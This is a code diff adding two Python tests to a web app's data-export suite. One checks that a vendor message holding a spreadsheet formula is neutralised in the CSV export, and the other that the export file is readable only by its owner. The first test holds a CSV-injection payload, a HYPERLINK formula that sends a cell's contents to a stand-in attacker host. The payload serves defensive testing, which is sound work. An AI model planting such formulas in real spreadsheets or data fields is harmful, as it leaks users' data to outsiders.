@@ -195,3 +195,33 @@ def test_vrm_export_writes_the_same_archive_for_an_operator(deployment: Any) -> 
     assert {i["key"] for i in data["sections"]["profile"]["items"]} >= {"email", "phone"}
     refused = deployment.cli("export", str(target), "--email", email)
     assert refused.exit_code == 1 and "exists" in refused.output
+
+
+def test_vendor_text_that_a_spreadsheet_would_run_is_defused_in_the_csv_only(
+    client: TestClient, db: Session, rt: Runtime
+) -> None:
+    owner = individual(client, db, rt)
+    intent = make_intent(db, rt, owner)
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Click")'
+    client.post(
+        f"/vendor/v1/intents/{intent.id}/offers",
+        headers=app_token(db, rt, market_vendor(db, rt)),
+        json=offer_body(message=formula),
+    )
+    archive = download(client)
+    [row] = list(csv.DictReader(io.StringIO(archive.read("offers.csv").decode())))
+    assert row["message"] == "'" + formula
+    [offer] = json.loads(archive.read("data.json"))["sections"]["offers"]["items"]
+    assert offer["message"] == formula
+
+
+def test_vrm_export_writes_a_file_only_its_owner_can_read(deployment: Any) -> None:
+    from tests.helpers import unique_email
+
+    deployment.upgrade()
+    rt = deployment.runtime()
+    email = unique_email()
+    deployment.add_individual(rt, email, full=False)
+    target = deployment.key_dir.parent / f"export-{uuid.uuid4().hex[:6]}.zip"
+    deployment.ok("export", str(target), "--email", email)
+    assert target.stat().st_mode & 0o777 == 0o600
